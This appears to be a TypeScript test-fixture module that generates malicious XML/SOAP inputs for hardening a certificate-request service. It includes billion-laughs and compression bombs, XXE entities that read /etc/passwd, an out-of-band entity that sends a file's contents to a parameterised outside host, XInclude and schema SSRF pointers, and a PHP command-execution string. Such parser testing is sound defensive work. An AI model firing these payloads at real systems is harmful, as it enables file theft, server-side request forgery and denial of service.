import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib'

/** A document that nobody sends in earnest. Made when it is asked for: some have megabytes. */
export interface HostileDocument {
  readonly name: string
  make(): Uint8Array
  /** Beside those of a usual message. */
  readonly headers?: Readonly<Record<string, string>>
}

const MEGABYTES_50 = 50_000_000
const DV = 'uri:EAC-PKI-DV-Protocol/1.1'

const utf8 = (text: string): Uint8Array => Buffer.from(text)
const utf16 = (text: string): Uint8Array => Buffer.from(text, 'utf16le')
const utf16be = (text: string): Uint8Array => Buffer.from(text, 'utf16le').swap16()
const utf32 = (text: string): Uint8Array =>
  new Uint8Array(Uint32Array.from([...text], (one) => one.codePointAt(0)!).buffer)
const document = (name: string, text: () => string): HostileDocument => ({ name, make: () => utf8(text()) })

/** A request as it should be, but for what is put into it. */
export function message({ before = '', certReq = 'fyEDAQID', extra = '', attributes = '' } = {}): string {
  const accessors = `<callbackIndicator>callback_not_possible</callbackIndicator><messageID/><responseURL/><certReq>${certReq}</certReq>${extra}`
  const entry = `<p:RequestCertificate xmlns:p="${DV}"${attributes}>${accessors}</p:RequestCertificate>`
  return `${before}<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${entry}</s:Body></s:Envelope>`
}

/** A message with a document type, whose entity `e` stands for what is read. */
const withType = (subset: string, certReq = '&e;'): string =>
  message({ before: `<!DOCTYPE s:Envelope ${subset}>`, certReq })
const grown = (levels: number, sign: string): string =>
  Array.from(
    { length: levels },
    (_, level) => `<!ENTITY ${sign === '%' ? '% ' : ''}l${level + 1} "${`${sign}l${level};`.repeat(10)}">`,
  ).join('')

const LAUGHS = withType(`[<!ENTITY l0 "ha">${grown(9, '&')}]`, '&l9;')
const inUtf16 = (name: string, make: () => Uint8Array): HostileDocument => ({
  name,
  make,
  headers: { 'Content-Type': 'text/xml; charset=utf-16' },
})

export const GROWING_ENTITIES: readonly HostileDocument[] = [
  document('a billion laughs', () => withType(`[<!ENTITY l0 "ha">${grown(9, '&')}]`, '&l9;')),
  document('a billion laughs of parameter entities', () =>
    withType(`[<!ENTITY % l0 "ha">${grown(9, '%')}<!ENTITY e "%l9;">]`),
  ),
  document('a billion laughs in an attribute', () =>
    message({ before: `<!DOCTYPE a [<!ENTITY l0 "ha">${grown(9, '&')}]>`, attributes: ' x="&l9;"' }),
  ),
  document('a billion laughs in the default of an attribute', () =>
    withType(`[<!ENTITY l0 "ha">${grown(9, '&')}<!ATTLIST s:Envelope x CDATA "&l9;">]`, 'fyED'),
  ),
  document('an entity of itself', () => withType('[<!ENTITY e "&f;"><!ENTITY f "&e;">]')),
  document('quadratic growth', () => withType(`[<!ENTITY e "${'x'.repeat(50_000)}">]`, '&e;'.repeat(20_000))),
  document('100,000 entities', () =>
    withType(`[${Array.from({ length: 100_000 }, (_, n) => `<!ENTITY e${n} "x">`).join('')}]`, 'fyED'),
  ),
  document('a document type and nothing in it', () => withType('', 'fyED')),
  document('a document type behind a comment', () => `<!-- x -->${withType('[]', 'fyED')}`),
  inUtf16('laughs in UTF-16LE', () => utf16(`\uFEFF${LAUGHS}`)),
  inUtf16('laughs in UTF-16BE', () => utf16be(`\uFEFF${LAUGHS}`)),
  inUtf16('laughs in UTF-16LE without a mark', () => utf16(`<?xml version="1.0" encoding="UTF-16"?>${LAUGHS}`)),
  inUtf16('laughs in UTF-16BE without a mark', () => utf16be(`<?xml version="1.0" encoding="UTF-16"?>${LAUGHS}`)),
]

const SCHEMES = ['http', 'https', 'ftp', 'gopher', 'php', 'jar', 'netdoc', 'expect', 'data', 'file']

/** @param outside `host:port` of somebody who must never be asked */
export function outsideEntities(outside: string): readonly HostileDocument[] {
  const targets = [
    ...SCHEMES.map((scheme) => `${scheme}://${outside}/secret`),
    `jar:http://${outside}/x.jar!/secret`,
    'php://filter/read=convert.base64-encode/resource=/etc/passwd',
    'file:///etc/passwd',
    'file:///dev/random',
    `\\\\${outside}\\share\\secret`,
    '../../../../etc/passwd',
  ]
  return [
    ...targets.map((target) =>
      document(`an entity of ${target.slice(0, 40)}`, () => withType(`[<!ENTITY e SYSTEM "${target}">]`)),
    ),
    document('a public entity', () => withType(`[<!ENTITY e PUBLIC "-//X//EN" "http://${outside}/secret">]`)),
    document('a document type from outside', () => withType(`SYSTEM "http://${outside}/x.dtd"`, 'fyED')),
    document('a document type of parameter entities from outside', () =>
      withType(`[<!ENTITY % x SYSTEM "http://${outside}/x.dtd">%x;]`, 'fyED'),
    ),
    document('an entity that carries a file out', () =>
      withType(
        `[<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % x "<!ENTITY &#37; out SYSTEM 'http://${outside}/?%f;'>">%x;%out;]`,
        'fyED',
      ),
    ),
    document('an unparsed entity', () =>
      withType(`[<!NOTATION n SYSTEM "http://${outside}/n"><!ENTITY e SYSTEM "http://${outside}/e" NDATA n>]`, 'fyED'),
    ),
  ]
}

/** Those that are well-formed, and may be read as if what they point to were not there. */
export function pointersOutside(outside: string): readonly HostileDocument[] {
  const url = `http://${outside}/secret`
  return [
    document('XInclude of an address', () =>
      message({ extra: `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}"/>` }),
    ),
    document('XInclude of a file', () =>
      message({
        certReq: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
      }),
    ),
    document('the place of a schema', () =>
      message({
        attributes: ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${DV} ${url}"`,
      }),
    ),
    document('a style sheet', () => message({ before: `<?xml-stylesheet type="text/xsl" href="${url}"?>` })),
    document('a base address', () => message({ attributes: ` xml:base="${url}"` })),
    document('a reference of SOAP encoding', () => message({ certReq: `<x href="${url}"/>` })),
    document('an included part', () =>
      message({ certReq: `<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="${url}"/>` }),
    ),
    document('a reply address of WS-Addressing', () =>
      message().replace(
        '<s:Body>',
        `<s:Header><a:ReplyTo xmlns:a="http://www.w3.org/2005/08/addressing"><a:Address>${url}</a:Address></a:ReplyTo></s:Header><s:Body>`,
      ),
    ),
  ]
}

const declared = (encoding: string): string => message({ before: `<?xml version="1.0" encoding="${encoding}"?>` })

export const MIXED_ENCODINGS: readonly HostileDocument[] = [
  { name: 'UTF-7', make: () => utf8('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-') },
  {
    name: 'UTF-7, by the Content-Type',
    make: () => utf8(message()),
    headers: { 'Content-Type': 'text/xml; charset=UTF-7' },
  },
  { name: 'UTF-32LE', make: () => utf32(declared('UTF-32')) },
  { name: 'UTF-32LE with a mark', make: () => utf32(`\uFEFF${declared('UTF-32')}`) },
  { name: 'UTF-32BE', make: () => Buffer.from(utf32(declared('UTF-32'))).swap32() },
  {
    name: 'EBCDIC',
    make: () =>
      Buffer.from('4c6fa7949340a58599a289969e7ef14bf07f40859583968489957e7fc9c2d4f0f3f77f6f6e4c81616e', 'hex'),
  },
  { name: 'EBCDIC, by the declaration', make: () => utf8(declared('IBM037')) },
  {
    name: 'EBCDIC, by the Content-Type',
    make: () => utf8(message()),
    headers: { 'Content-Type': 'text/xml; charset=IBM037' },
  },
  ...['Shift_JIS', 'ISO-2022-JP', 'GB18030', 'EUC-KR', 'Big5', 'UCS-4', 'HTML'].map((encoding) =>
    document(encoding, () => declared(encoding)),
  ),
  document('UTF-8 that is declared UTF-16', () => declared('UTF-16')),
  { name: 'UTF-16 that is declared UTF-8', make: () => utf16(`\uFEFF${declared('UTF-8')}`) },
  { name: 'UTF-16BE that is declared Latin 1', make: () => utf16be(`\uFEFF${declared('ISO-8859-1')}`) },
  { name: 'UTF-8 with a mark that is declared Latin 1', make: () => utf8(`\uFEFF${declared('ISO-8859-1')}`) },
  { name: 'UTF-16 that the Content-Type calls UTF-8', make: () => utf16(`\uFEFF${declared('UTF-16')}`) },
  {
    name: 'UTF-8 that the Content-Type calls UTF-16',
    make: () => utf8(message()),
    headers: { 'Content-Type': 'text/xml; charset=utf-16' },
  },
  { name: 'UTF-16 without mark and declaration', make: () => utf16(message()) },
]

const around = (...octets: number[]): Uint8Array => {
  const [before, after] = message({ certReq: '#' }).split('#')
  return Buffer.concat([utf8(before ?? ''), Uint8Array.from(octets), utf8(after ?? '')])
}

export const BROKEN_CHARACTERS: readonly HostileDocument[] = [
  document('NUL', () => message({ certReq: 'fyED\0AQID' })),
  document('a control character', () => message({ certReq: 'fyED\u0001' })),
  ...['&#0;', '&#1;', '&#xD800;', '&#xFFFE;', '&#x110000;', '&#-1;', '&nobody;'].map((reference) =>
    document(reference, () => message({ certReq: reference })),
  ),
  { name: 'overlong UTF-8', make: () => around(0xc0, 0xbc) },
  { name: 'overlong UTF-8 of three octets', make: () => around(0xe0, 0x80, 0xbc) },
  { name: 'half a surrogate pair', make: () => around(0xed, 0xa0, 0x80) },
  { name: 'UTF-8 beyond Unicode', make: () => around(0xf4, 0x90, 0x80, 0x80) },
  { name: 'UTF-8 that is cut off', make: () => around(0xe2, 0x82) },
  { name: 'Latin 1 that says UTF-8', make: () => around(0xfc) },
  {
    name: 'half a surrogate pair in UTF-16',
    make: () => Buffer.concat([utf16('\uFEFF<a>'), Uint8Array.of(0x00, 0xd8), utf16('</a>')]),
    headers: { 'Content-Type': 'text/xml' },
  },
]

const nested = (depth: number): string => '<a>'.repeat(depth) + '</a>'.repeat(depth)

export const DEEP_NESTING: readonly HostileDocument[] = [30, 33, 100, 256, 1_000, 10_000, 100_000].flatMap((depth) => [
  document(`${depth} elements in each other`, () => message({ extra: nested(depth) })),
])

const numbered = (count: number, one: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => one(n)).join(' ')
/** Names of one length, as they collide in a table that knows no more of them. */
const alike = (n: number): string => `a${n.toString(2).padStart(20, '0').replaceAll('0', 'A').replaceAll('1', 'B')}`

export const FLOODS: readonly HostileDocument[] = [
  document('100,000 attributes', () => message({ extra: `<x ${numbered(100_000, (n) => `a${n}="1"`)}/>` })),
  document('100,000 attributes, named much alike', () =>
    message({ extra: `<x ${numbered(100_000, (n) => `${alike(n)}=""`)}/>` }),
  ),
  document('4,001 attributes, each at its element', () => message({ extra: '<x a=""/>'.repeat(4_001) })),
  document('100,000 namespaces', () =>
    message({ extra: `<x ${numbered(100_000, (n) => `xmlns:n${n}="urn:${n}"`)}/>` }),
  ),
  document('a namespace of 1,100,000 characters, 3 times', () =>
    message({ extra: `<x xmlns="urn:${'x'.repeat(1_100_000)}"/>`.repeat(3) }),
  ),
  document('100,000 elements', () => message({ extra: '<x/>'.repeat(100_000) })),
  document('900,000 elements', () => message({ extra: '<x/>'.repeat(900_000) })),
  document('100,000 comments', () => message({ extra: '<!---->'.repeat(100_000) })),
  document('100,000 CDATA sections', () => message({ certReq: '<![CDATA[]]>'.repeat(100_000) })),
  document('a text of 3,900,000 characters', () => message({ certReq: 'A'.repeat(3_900_000) })),
  document('an attribute of 3,900,000 characters', () => message({ extra: `<x a="${'A'.repeat(3_900_000)}"/>` })),
  document('a comment of 3,900,000 characters', () => message({ extra: `<!--${'A'.repeat(3_900_000)}-->` })),
  document('a name of 3,900,000 characters', () => message({ extra: `<${'a'.repeat(3_900_000)}/>` })),
]

export const TWICE_THE_SAME: readonly HostileDocument[] = [
  document('an attribute twice', () => message({ attributes: ' a="1" a="2"' })),
  document('an attribute twice, by two names of its namespace', () =>
    message({ attributes: ' xmlns:x="urn:x" xmlns:y="urn:x" x:a="1" y:a="2"' }),
  ),
  document('two root elements', () => message() + message()),
  document('two bodies', () => message().replace('</s:Envelope>', '<s:Body/></s:Envelope>')),
  document('two entries', () => message().replace('</s:Body>', '<x/></s:Body>')),
  document('something behind the end', () => `${message()}garbage`),
  document('a NUL behind the end', () => `${message()}\0`),
  document('half of it', () => message().slice(0, 200)),
  document('its end missing', () => message().slice(0, -1)),
  document('nothing', () => ''),
  document('blanks', () => ' '.repeat(1_000)),
  document('JSON', () => '{"RequestCertificate":{}}'),
  document('HTML', () => '<!doctype html><html><body>hello</body></html>'),
  document('an XML declaration in the middle', () => message({ extra: '<?xml version="1.0"?>' })),
  document('a processing instruction', () => message({ extra: '<?php system("id") ?>' })),
]

const huge = (before: string, after: string): Uint8Array => {
  const bytes = Buffer.alloc(MEGABYTES_50, 'A')
  bytes.write(before, 0)
  bytes.write(after, MEGABYTES_50 - after.length)
  return bytes
}
const [HEAD = '', TAIL = ''] = message({ certReq: '#' }).split('#')

export const FIFTY_MEGABYTES: readonly HostileDocument[] = [
  { name: 'a text of 50 MB', make: () => huge(HEAD, TAIL) },
  { name: 'an attribute of 50 MB', make: () => huge(`${HEAD}<x a="`, `"/>${TAIL}`) },
  { name: 'a comment of 50 MB', make: () => huge(`${HEAD}<!--`, `-->${TAIL}`) },
  { name: 'a CDATA section of 50 MB', make: () => huge(`${HEAD}<![CDATA[`, `]]>${TAIL}`) },
  { name: 'a processing instruction of 50 MB', make: () => huge(`${HEAD}<?x `, `?>${TAIL}`) },
  { name: 'a name of 50 MB', make: () => huge(`${HEAD}<`, `/>${TAIL}`) },
  { name: '50 MB that no XML begins with', make: () => huge('', '') },
]

const zeros = () => Buffer.alloc(MEGABYTES_50)
const packed = (name: string, encoding: string, pack: (bytes: Buffer) => Uint8Array): HostileDocument => ({
  name,
  make: () => pack(zeros()),
  headers: { 'Content-Encoding': encoding },
})

export const COMPRESSED: readonly HostileDocument[] = [
  packed('50 MB in gzip', 'gzip', (bytes) => gzipSync(bytes)),
  packed('gzip in gzip', 'gzip, gzip', (bytes) => gzipSync(gzipSync(bytes))),
  packed('50 MB in deflate', 'deflate', (bytes) => deflateSync(bytes)),
  packed('50 MB in raw deflate', 'x-deflate', (bytes) => deflateRawSync(bytes)),
  packed('50 MB in brotli', 'br', (bytes) => brotliCompressSync(bytes)),
  { name: 'zstd', make: () => Buffer.from('28b52ffd0400', 'hex'), headers: { 'Content-Encoding': 'zstd' } },
  {
    name: 'plain, which is called gzip behind identity',
    make: () => utf8(message()),
    headers: { 'Content-Encoding': 'identity, gzip' },
  },
]

const parts = (type: string): HostileDocument => ({
  name: type,
  make: () => utf8(`--b\r\nContent-Type: text/xml\r\n\r\n${message()}\r\n--b\r\nContent-ID: <1>\r\n\r\nx\r\n--b--`),
  headers: { 'Content-Type': `${type}; boundary=b` },
})

export const IN_PARTS: readonly HostileDocument[] = [
  parts('multipart/related; type="application/xop+xml"; start="<1>"'),
  parts('multipart/related; type="text/xml"'),
  parts('multipart/form-data'),
  parts('Multipart/Mixed'),
]
